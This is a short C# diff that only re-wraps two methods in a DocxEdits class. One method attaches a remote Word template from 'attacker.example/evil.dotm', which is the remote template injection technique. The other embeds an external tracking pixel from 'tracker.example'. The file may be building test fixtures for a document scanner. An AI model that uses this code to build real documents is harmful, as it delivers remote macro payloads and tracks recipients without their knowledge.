@@ -123,10 +123,12 @@ public static class DocxEdits
     public static void AttachRemoteTemplate(WordprocessingDocument document)
     {
         var settings = document.MainDocumentPart!.DocumentSettingsPart!;
-        settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("https://attacker.example/evil.dotm"), "rIdAttached");
+        settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
+            new Uri("https://attacker.example/evil.dotm"), "rIdAttached");
         settings.Settings!.PrependChild(new AttachedTemplate { Id = "rIdAttached" });
     }
 
     public static void AddExternalImage(WordprocessingDocument document) =>
-        document.MainDocumentPart!.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("https://tracker.example/pixel.png"), "rIdPixel");
+        document.MainDocumentPart!.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
+            new Uri("https://tracker.example/pixel.png"), "rIdPixel");
 }
